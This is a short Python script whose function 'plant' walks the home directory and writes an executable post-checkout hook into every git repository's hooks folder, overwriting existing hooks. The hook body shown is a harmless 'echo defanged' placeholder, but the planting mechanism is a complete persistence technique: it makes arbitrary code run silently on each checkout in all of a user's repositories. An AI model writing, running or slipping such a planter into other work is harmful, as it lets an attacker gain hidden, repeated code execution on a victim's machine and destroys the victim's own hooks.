import os

HOOK = "#!/bin/sh\necho defanged\n"

def plant():
    for root, dirs, files in os.walk(os.path.expanduser("~")):
        if root.endswith(os.path.join(".git", "hooks")):
            p = os.path.join(root, "post-checkout")
            with open(p, "w") as f:
                f.write(HOOK)
            os.chmod(p, 0o755)
